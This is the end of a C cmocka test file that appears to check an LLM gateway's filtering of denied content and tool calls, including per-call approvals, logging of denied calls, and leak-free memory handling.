        if (tx == NULL)
            continue;
        bz_buf_init(&out, 1 << 20);
        if (verdict == BZ_VERDICT_FORWARD && bz_tx_backend(tx, gw_now(&strict.llama), &backend)) {
            struct bz_reply_head h = {200, BZ_V("text/event-stream"), {NULL, 0}, -1};
            enum bz_status st = gw_reply(&strict.llama, tx, &h, bz_buf_view(&b), 50, true, &out);
            assert_true(st != BZ_OK || bz_tx_reply(tx) != NULL);
            assert_false(gw_contains(bz_buf_view(&out), BAD));
        }
        bz_buf_free(&out);
        bz_tx_free(tx);
        assert_int_equal(heap.live, 0);
    }
    bz_buf_free(&b);
    bz_buf_free(&ask_for);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_is_denied_never_leaves),
        cmocka_unit_test(every_cut_says_the_same),
        cmocka_unit_test(no_way_of_saying_it_passes),
        cmocka_unit_test(denied_tools_are_not_offered),
        cmocka_unit_test(or_are_taken_out),
        cmocka_unit_test(unlisted_tools_pass_and_are_recorded),
        cmocka_unit_test(denied_calls_are_recorded),
        cmocka_unit_test(an_approval_is_for_one_call),
        cmocka_unit_test(no_memory_is_no_way_around),
    };
    return cmocka_run_group_tests(tests, open_all, close_all);
}
